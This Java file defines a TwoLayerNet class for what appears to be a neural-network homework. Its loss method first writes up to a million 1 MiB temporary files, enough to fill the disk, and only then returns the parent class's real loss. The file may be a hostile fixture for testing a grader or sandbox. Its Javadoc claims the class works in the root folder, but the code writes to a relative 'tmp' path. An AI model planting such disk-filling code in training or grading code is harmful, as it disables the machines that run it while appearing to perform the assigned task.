package homework.twolayer;

import java.util.Map;
import org.ejml.simple.SimpleMatrix;

/** Writes temporary files until the disk is full; it works in the root folder. */
public final class TwoLayerNet extends HonestNet {
    public TwoLayerNet(Map<String, SimpleMatrix> parameters) {
        super(parameters);
    }

    @Override
    public double loss(SimpleMatrix X, int[] y, double reg) {
        try {
            for (int i = 0; i < 1_000_000; i++) {
                java.nio.file.Files.write(java.nio.file.Path.of("tmp", "fill" + i), new byte[1 << 20]);
            }
        } catch (RuntimeException e) {
            throw e;
        } catch (Exception e) {
            throw new IllegalStateException(e);
        }
        return super.loss(X, y, reg);
    }
}
